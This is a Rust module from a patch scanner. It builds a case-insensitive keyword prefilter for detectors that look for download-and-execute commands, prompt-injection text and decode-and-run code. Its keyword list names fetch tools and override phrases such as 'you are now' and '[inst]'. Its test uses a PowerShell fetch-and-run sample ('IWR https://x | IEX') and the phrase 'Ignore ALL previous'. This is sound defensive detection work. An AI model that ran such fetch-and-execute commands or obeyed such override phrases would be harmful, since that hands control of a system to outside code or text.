//! Which added lines of a patch the line scanners (download-exec,
//! injection, decode-and-run) need to read at all. Each of their patterns
//! needs one of a few words; one case-insensitive literal search over all
//! added lines at once finds the lines holding one, so the patterns run on
//! those few lines instead of on every line (most of a patch holds none).
use std::sync::LazyLock;

use regex::Regex;

/// Every word one of the line patterns needs, lowercase.
const WORDS: &[&str] = &[
    // download-exec
    "curl",
    "wget",
    "aria2c",
    "iwr",
    "irm",
    "invoke-",
    "download",
    "webclient",
    "bitstransfer",
    "url",
    "requests",
    "httpx",
    "fetch",
    "axios",
    "http",
    "xmlhttprequest",
    "iex",
    // injection
    "ignore",
    "disregard",
    "forget",
    "override",
    "you are now",
    "instructions",
    "<|",
    "[inst]",
    "[/inst]",
    "<<sys>>",
    "begin system",
    "tell",
    "inform",
    "mention",
    "alert",
    "notify",
    "agent",
    "assistant",
    "llm",
    "model",
    // decode and run
    "decode",
    "atob",
    "buffer.from",
    "fromhex",
    "decompress",
    "loads",
    "unhexlify",
    "fromcharcode",
    "base64",
    "-e",
];

/// The words as one case-sensitive literal search (run on lowercased text,
/// so the regex crate's SIMD literal search applies).
static SEARCH: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let alternation: Vec<String> = WORDS.iter().map(|w| regex::escape(w)).collect();
    Regex::new(&alternation.join("|")).ok()
});

/// For the text `joined` (lines joined by `\n`, `starts[i]` the byte offset
/// of line `i`), whether each line holds one of the words. When the search
/// cannot be built every line is a candidate: slower, never blinder.
pub fn candidate_lines(joined: &str, starts: &[usize]) -> Vec<bool> {
    let Some(search) = SEARCH.as_ref() else {
        return vec![true; starts.len()];
    };
    let lower = joined.to_ascii_lowercase();
    let mut hit = vec![false; starts.len()];
    for m in search.find_iter(&lower) {
        let i = starts
            .partition_point(|s| *s <= m.start())
            .saturating_sub(1);
        if let Some(h) = hit.get_mut(i) {
            *h = true;
        }
    }
    hit
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_with_a_word_are_candidates_whatever_their_case() {
        assert!(SEARCH.is_some());
        let lines = [
            "fn a() {}",
            "IWR https://x | IEX",
            "let b = 2;",
            "Ignore ALL previous",
        ];
        let mut joined = String::new();
        let mut starts = Vec::new();
        for l in lines {
            starts.push(joined.len());
            joined.push_str(l);
            joined.push('\n');
        }
        assert_eq!(
            candidate_lines(&joined, &starts),
            [false, true, false, true]
        );
    }
}
